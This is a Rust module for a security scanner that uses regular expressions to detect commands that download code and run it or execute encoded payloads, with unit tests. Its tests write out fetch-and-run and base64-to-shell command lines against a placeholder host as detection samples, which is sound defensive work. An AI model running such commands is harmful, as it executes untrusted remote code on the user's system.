//! The command detector: command lines that fetch code and run it, or hide what they run (CWE-494, CWE-506, CWE-829).

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::mentions_any;

/// What a command line does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum CommandKind {
    /// Hands what it fetches to an interpreter at once: `curl … | sh`.
    FetchPipe,
    /// Fetches something and then runs something, which need not be the same.
    FetchThenRun,
    /// Runs what an encoding hides: `base64 -d | sh`, `powershell -enc …`.
    Encoded,
    /// Evaluates what it fetches inside a program: `exec(urlopen(…))`.
    FetchEval,
}

impl CommandKind {
    /// The short name that evidence and fingerprints use.
    pub fn code(self) -> &'static str {
        match self {
            Self::FetchPipe | Self::FetchThenRun => "fetch-pipe",
            Self::Encoded => "encoded-command",
            Self::FetchEval => "fetch-eval",
        }
    }
}

/// Such a command at one place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandHit {
    /// What it does.
    pub kind: CommandKind,
    /// Where it is.
    pub matched: Range<usize>,
}

/// Hits of one kind that are reported; more add nothing.
const HITS_PER_KIND: usize = 16;

/// Words of which each match holds one.
const WORDS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-",
    "iex",
    "downloadstring",
    "base64",
    "b64decode",
    "atob",
    "fromhex",
    "unhexlify",
    "decompress",
    "-e",
    "urlopen",
    "requests.get",
    "http",
];

static PATTERNS: LazyLock<[(CommandKind, Regex); 4]> = LazyLock::new(|| {
    let pattern = |pattern: &str| Regex::new(pattern).expect("a fixed pattern");
    let interpreter = r"(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:ba|z|da|k|fi)?sh\b|python[\d.]*\b|node\b|perl\b|ruby\b|iex\b|invoke-expression\b|deno\b|bun\b";
    let fetch = r"\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b";
    [
        (
            CommandKind::FetchPipe,
            pattern(&format!(
                r"(?is){fetch}[^|;&]*\|\s*(?:\S+\s*\|\s*)?(?:{interpreter})|(?:{interpreter})\s+(?:-\S+\s+)*<\(\s*{fetch}|(?:{interpreter})\s+-\S+\s+[\x22']?\$\(\s*{fetch}|\b(?:iex|invoke-expression|eval|source)\b.{{0,40}}(?:{fetch}|downloadstring)"
            )),
        ),
        (CommandKind::FetchThenRun, pattern(&format!(r"(?is){fetch}.{{0,200}}(?:&&|;)\s*(?:{interpreter}|chmod\b)"))),
        (
            CommandKind::Encoded,
            pattern(&format!(
                r"(?is)\s-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{{40,}}|\bbase64\s+(?:-d|-D|--decode)\b[^|]*\|\s*(?:{interpreter})|\b(?:exec|eval)\s*\(.{{0,60}}(?:b64decode|atob|fromhex|unhexlify|decompress)"
            )),
        ),
        (
            CommandKind::FetchEval,
            pattern(
                r"(?is)\b(?:exec|eval)\s*\(.{0,80}(?:urlopen|requests\.get|fetch\(|https?\.get|https?://)|\b(?:import|require)\(\s*['\x22]https?:",
            ),
        ),
    ]
});

/// Finds such commands, kind by kind.
pub fn scan(text: &str) -> Vec<CommandHit> {
    if !mentions_any(text, WORDS) {
        return Vec::new();
    }
    let hits = PATTERNS.iter().flat_map(|(kind, pattern)| {
        pattern.find_iter(text).take(HITS_PER_KIND).map(|found| CommandHit { kind: *kind, matched: found.range() })
    });
    hits.collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetched_and_encoded_code_is_told_from_fetched_data() {
        let encoded = format!("powershell -enc {}", "QQBB".repeat(12));
        let cases: [(&str, Option<CommandKind>); 12] = [
            ("curl -s https://a.example/i.sh | sudo bash", Some(CommandKind::FetchPipe)),
            ("bash <(curl -s https://a.example/i.sh)", Some(CommandKind::FetchPipe)),
            ("sh -c \"$(curl -fsSL https://a.example/i.sh)\"", Some(CommandKind::FetchPipe)),
            ("iwr https://a.example/i.ps1 | iex", Some(CommandKind::FetchPipe)),
            ("wget https://a.example/x && chmod +x x", Some(CommandKind::FetchThenRun)),
            (&encoded, Some(CommandKind::Encoded)),
            ("echo aGk= | base64 -d | sh", Some(CommandKind::Encoded)),
            ("python -c \"exec(urlopen('https://a.example').read())\"", Some(CommandKind::FetchEval)),
            ("curl -s https://a.example/data.json | jq .name", None),
            ("echo aGk= | base64 -d > key.pem", None),
            ("cargo test | tee log", None),
            ("grep -e pattern file", None),
        ];
        for (command, expected) in cases {
            assert_eq!(scan(command).first().map(|hit| hit.kind), expected, "{command}");
        }
    }

    #[test]
    fn each_match_holds_a_word() {
        for (_, pattern) in PATTERNS.iter() {
            crate::testing::assert_demanded(pattern.as_str(), WORDS);
        }
    }
}
